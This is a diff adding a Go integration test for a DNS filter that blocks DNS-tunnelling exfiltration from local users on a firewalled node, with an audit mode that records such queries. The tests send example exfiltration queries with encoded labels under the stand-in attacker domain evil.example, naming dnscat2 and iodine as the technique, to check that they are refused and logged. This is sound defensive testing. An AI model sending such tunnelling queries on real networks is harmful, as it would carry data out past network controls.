@@ -1,0 +1,328 @@
+//go:build linux
+
+package dnsfilter
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/netip"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+	"golang.org/x/sys/unix"
+
+	"moat/internal/firewall"
+	"moat/internal/flow"
+	"moat/internal/flow/ocsfcheck"
+	"moat/internal/netlab"
+	"moat/internal/policy"
+	"moat/internal/testkit"
+)
+
+// resolver is the test's own DNS server on a peer of the node: it answers
+// every A question with 192.0.2.7 and keeps the names it was asked.
+type resolver struct {
+	mu   sync.Mutex // guards seen
+	seen []string
+}
+
+func (r *resolver) asked(name string) bool {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	for _, n := range r.seen {
+		if strings.EqualFold(n, name) {
+			return true
+		}
+	}
+	return false
+}
+
+func (r *resolver) serve(t *testing.T, h *netlab.Host) {
+	t.Helper()
+	handler := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
+		r.mu.Lock()
+		for _, qq := range q.Question {
+			r.seen = append(r.seen, qq.Name)
+		}
+		r.mu.Unlock()
+		m := new(dns.Msg)
+		m.SetReply(q)
+		m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 30}, A: net.IPv4(192, 0, 2, 7)})
+		w.WriteMsg(m)
+	})
+	addr := netip.AddrPortFrom(h.Addr, 53).String()
+	var pc net.PacketConn
+	var ln net.Listener
+	if err := h.Do(func() (err error) {
+		if pc, err = net.ListenPacket("udp", addr); err != nil {
+			return err
+		}
+		ln, err = net.Listen("tcp", addr)
+		return err
+	}); err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range []*dns.Server{{PacketConn: pc, Handler: handler}, {Listener: ln, Handler: handler}} {
+		go s.ActivateAndServe()
+		t.Cleanup(func() { s.Shutdown() })
+	}
+}
+
+// node is a node with its host firewall and its DNS filter, and a peer
+// holding the test's resolver.
+type node struct {
+	fw, peer *netlab.Host
+	m        *firewall.Manager
+	res      *resolver
+	recs     *flow.Memory
+	port     uint16
+}
+
+const filterPort = 15353
+
+func newNode(t *testing.T) *node {
+	t.Helper()
+	if os.Geteuid() != 0 {
+		t.Skip("network namespaces and nftables need root (CI runs as root)")
+	}
+	l, err := netlab.New(fmt.Sprintf("dnf%d-%d-", os.Getpid()%100000, time.Now().UnixNano()%1000), netip.MustParsePrefix("198.18.11.0/24"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if err := l.Close(); err != nil {
+			t.Error(err)
+		}
+	})
+	n := &node{res: &resolver{}, recs: &flow.Memory{}, port: filterPort}
+	if n.fw, err = l.AddHost("fw"); err != nil {
+		t.Fatal(err)
+	}
+	if n.peer, err = l.AddHost("peer"); err != nil {
+		t.Fatal(err)
+	}
+	n.res.serve(t, n.peer)
+	if n.m, err = firewall.New(firewall.Config{NetNS: n.fw.Path(), Node: "fw"}); err != nil {
+		t.Fatal(err)
+	}
+	return n
+}
+
+// filter starts a DNS filter in the node's namespace on port, allowing
+// names below allowed.example and www.example.com.
+func (n *node) filter(t *testing.T, port uint16, audit bool) {
+	t.Helper()
+	f, err := New(Config{
+		Node:      "fw",
+		Resolvers: func() []netip.AddrPort { return []netip.AddrPort{netip.AddrPortFrom(n.peer.Addr, 53)} },
+		Allowed: func(name string) (string, bool) {
+			for _, p := range []string{"*.allowed.example", "www.example.com"} {
+				if policy.HostMatches(p, name) {
+					return p, true
+				}
+			}
+			return "", false
+		},
+		Audit: audit, Flows: n.recs, Timeout: testkit.WaitLimit,
+		Dial: func(ctx context.Context, network, addr string) (c net.Conn, err error) {
+			err = n.fw.Do(func() error {
+				var d net.Dialer
+				c, err = d.DialContext(ctx, network, addr)
+				return err
+			})
+			return c, err
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	addr := "127.0.0.1:" + strconv.Itoa(int(port))
+	var pc net.PacketConn
+	var ln net.Listener
+	if err := n.fw.Do(func() (err error) {
+		if pc, err = net.ListenPacket("udp", addr); err != nil {
+			return err
+		}
+		ln, err = net.Listen("tcp", addr)
+		return err
+	}); err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- f.Serve(ctx, []net.PacketConn{pc}, []net.Listener{ln}) }()
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("Serve: %v", err)
+		}
+	})
+}
+
+// apply puts the node's firewall in mode, its DNS filtered on port (0:
+// open), the peer its resolver, the test's uid (root) the agent's.
+func (n *node) apply(t *testing.T, mode firewall.Mode, port uint16) {
+	t.Helper()
+	if err := n.m.Apply(firewall.Build(firewall.Inputs{Mode: mode, Resolvers: []netip.Addr{n.peer.Addr}, DNSPort: port, AgentUID: os.Getuid()})); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// ask sends a query for name (type A) over network from a socket of uid on
+// the node to the peer's resolver address, as a program that reads
+// /etc/resolv.conf does; it returns the answer's rcode and first address.
+func (n *node) ask(t *testing.T, uid int, network, name string) (int, string, error) {
+	t.Helper()
+	var resp *dns.Msg
+	err := n.fw.Do(func() error {
+		// The socket is made with uid as its file system uid: its owner
+		// for the firewall's uid match.
+		unix.Setfsuid(uid)
+		defer unix.Setfsuid(0)
+		c := dns.Client{Net: network, Timeout: 2 * time.Second}
+		m := new(dns.Msg)
+		m.SetQuestion(dns.Fqdn(name), dns.TypeA)
+		var err error
+		resp, _, err = c.Exchange(m, netip.AddrPortFrom(n.peer.Addr, 53).String())
+		return err
+	})
+	if err != nil {
+		return 0, "", err
+	}
+	addr := ""
+	if len(resp.Answer) > 0 {
+		if a, ok := resp.Answer[0].(*dns.A); ok {
+			addr = a.A.String()
+		}
+	}
+	return resp.Rcode, addr, nil
+}
+
+// A local user (uid 65534) on a node in enforce mode asks the node's
+// resolver, over UDP and TCP: an allowed name is answered with the
+// resolver's answer; a name carrying data to a domain of the user's
+// choosing (aGVsbG8.evil.example, dnscat2's and iodine's way out) never
+// reaches the resolver, is answered REFUSED and is recorded. The agent's
+// own uid still asks the resolver directly, and firewall.dns: open gives
+// back the resolver to every uid.
+func TestLocalUserDNSFiltered(t *testing.T) {
+	n := newNode(t)
+	n.filter(t, n.port, false)
+	n.apply(t, firewall.ModeEnforce, n.port)
+	const user = 65534
+	for _, network := range []string{"udp", "tcp"} {
+		t.Logf("%s: an allowed name is answered with the resolver's answer", network)
+		rcode, addr, err := n.ask(t, user, network, network+".allowed.example")
+		if err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
+			t.Errorf("%s: allowed name: rcode %d, address %q, %v; want the resolver's 192.0.2.7", network, rcode, addr, err)
+		}
+		if !n.res.asked(network + ".allowed.example.") {
+			t.Errorf("%s: the resolver was not asked for the allowed name", network)
+		}
+		t.Logf("%s: a name of the user's choosing is refused and never reaches the resolver", network)
+		exfil := "aGVsbG8-" + network + ".evil.example"
+		rcode, _, err = n.ask(t, user, network, exfil)
+		if err != nil || rcode != dns.RcodeRefused {
+			t.Errorf("%s: exfiltrating name: rcode %d, %v; want REFUSED", network, rcode, err)
+		}
+		if n.res.asked(exfil + ".") {
+			t.Errorf("%s: the resolver saw %s", network, exfil)
+		}
+		rec := wait(t, n.recs, "the refused "+network+" query", func(r flow.Record) bool {
+			return r.Unmapped != nil && r.Unmapped.ReasonCode == flow.ReasonDNSRefused && r.DstEndpoint.Hostname == exfil+"."
+		})
+		if rec.Verdict() != flow.VerdictDeny || rec.ConnectionInfo.ProtocolName != network || rec.Unmapped.Node != "fw" {
+			t.Errorf("%s: record %+v %+v", network, rec.Unmapped, rec.ConnectionInfo)
+		}
+	}
+
+	t.Log("an ANY question is refused whatever its name")
+	resolverAddr := netip.AddrPortFrom(n.peer.Addr, 53).String()
+	if rcode, err := n.askType(user, resolverAddr, "www.example.com", dns.TypeANY); err != nil || rcode != dns.RcodeRefused {
+		t.Errorf("ANY: rcode %d, %v; want REFUSED", rcode, err)
+	}
+	t.Log("DNS to a server of the user's choosing is the filter's too")
+	if rcode, err := n.askType(user, "198.18.11.250:53", "www.example.com", dns.TypeA); err != nil || rcode != dns.RcodeSuccess {
+		t.Errorf("an allowed name asked of another server: rcode %d, %v; want the filter's answer", rcode, err)
+	}
+	if rcode, err := n.askType(user, "198.18.11.250:53", "c2VydmVy.evil.example", dns.TypeA); err != nil || rcode != dns.RcodeRefused || n.res.asked("c2VydmVy.evil.example.") {
+		t.Errorf("a name of the user's choosing asked of another server: rcode %d, %v; want REFUSED", rcode, err)
+	}
+
+	t.Log("the agent's own uid asks the resolver directly")
+	if rcode, addr, err := n.ask(t, os.Getuid(), "udp", "agent.evil.example"); err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
+		t.Errorf("the agent's query: rcode %d, address %q, %v", rcode, addr, err)
+	}
+	if !n.res.asked("agent.evil.example.") {
+		t.Error("the agent's query did not reach the resolver")
+	}
+
+	t.Log("firewall.dns: open gives the resolver back to every uid")
+	n.apply(t, firewall.ModeEnforce, 0)
+	if rcode, _, err := n.ask(t, user, "udp", "b3Blbg.evil.example"); err != nil || rcode != dns.RcodeSuccess || !n.res.asked("b3Blbg.evil.example.") {
+		t.Errorf("dns open: rcode %d, %v, resolver asked %v", rcode, err, n.res.asked("b3Blbg.evil.example."))
+	}
+}
+
+// askType asks server over UDP, as uid, for name of qtype, and returns
+// the answer's rcode.
+func (n *node) askType(uid int, server, name string, qtype uint16) (int, error) {
+	var resp *dns.Msg
+	err := n.fw.Do(func() error {
+		unix.Setfsuid(uid)
+		defer unix.Setfsuid(0)
+		c := dns.Client{Net: "udp", Timeout: 2 * time.Second}
+		m := new(dns.Msg)
+		m.SetQuestion(dns.Fqdn(name), qtype)
+		var err error
+		resp, _, err = c.Exchange(m, server)
+		return err
+	})
+	if err != nil {
+		return 0, err
+	}
+	return resp.Rcode, nil
+}
+
+// In audit mode the filter answers a name it would refuse, and records it
+// as what enforce mode would refuse.
+func TestLocalUserDNSAudit(t *testing.T) {
+	n := newNode(t)
+	n.filter(t, n.port, true)
+	n.apply(t, firewall.ModeAudit, n.port)
+	rcode, addr, err := n.ask(t, 65534, "udp", "YXVkaXQ.evil.example")
+	if err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
+		t.Errorf("audit: rcode %d, address %q, %v; want the resolver's answer", rcode, addr, err)
+	}
+	rec := wait(t, n.recs, "the would-refuse record", func(r flow.Record) bool {
+		return r.Unmapped != nil && r.Unmapped.ReasonCode == flow.ReasonDNSRefused && r.DstEndpoint.Hostname == "YXVkaXQ.evil.example."
+	})
+	if rec.Verdict() != flow.VerdictAudit {
+		t.Errorf("audit record's verdict %q", rec.Verdict())
+	}
+}
+
+// wait returns the first record of recs that match accepts, within
+// testkit.WaitLimit.
+func wait(t *testing.T, recs *flow.Memory, what string, match func(flow.Record) bool) flow.Record {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), testkit.WaitLimit)
+	defer cancel()
+	r, err := recs.Wait(ctx, match)
+	if err != nil {
+		t.Fatalf("no record of %s", what)
+	}
+	if b, err := json.Marshal(r); err != nil {
+		t.Fatal(err)
+	} else if err := ocsfcheck.Check(b); err != nil {
+		t.Errorf("the record of %s departs from OCSF: %v\n%s", what, err, b)
+	}
+	return r
+}
